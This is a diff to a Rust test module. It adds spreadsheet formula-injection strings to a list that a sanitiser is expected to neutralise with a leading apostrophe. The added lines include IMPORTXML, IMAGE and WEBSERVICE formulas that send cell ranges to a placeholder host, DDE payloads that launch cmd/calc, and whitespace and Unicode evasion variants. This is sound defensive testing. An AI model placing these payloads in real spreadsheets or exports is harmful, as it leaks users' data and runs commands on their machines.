@@ -142,7 +142,25 @@ mod tests {
             "@",
             "-A1",
             "+A1",
+            "=1+1\";=1+1",
+            "=IMPORTXML(CONCAT(\"http://x?\", A1:Z99), \"//a\")",
+            "=IMAGE(\"https://x/\"&A1)",
+            "=WEBSERVICE(\"https://x/\"&A1)",
+            "=DDE(\"cmd\";\"/C calc\";\"x\")",
+            "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-1+1+cmd|' /C calc'!A0",
+            "+1-1",
+            "+(1)",
+            "-(1)-1",
+            " \t=1",
+            "   +A1",
+            " ＝1",
+            "\r\n=1",
+            "=\u{200b}1",
+            "-1E9",
         ];
+        assert_eq!(payloads.len(), 40);
         for payload in payloads {
             assert!(harmless(payload).starts_with('\''), "{payload:?}");
         }
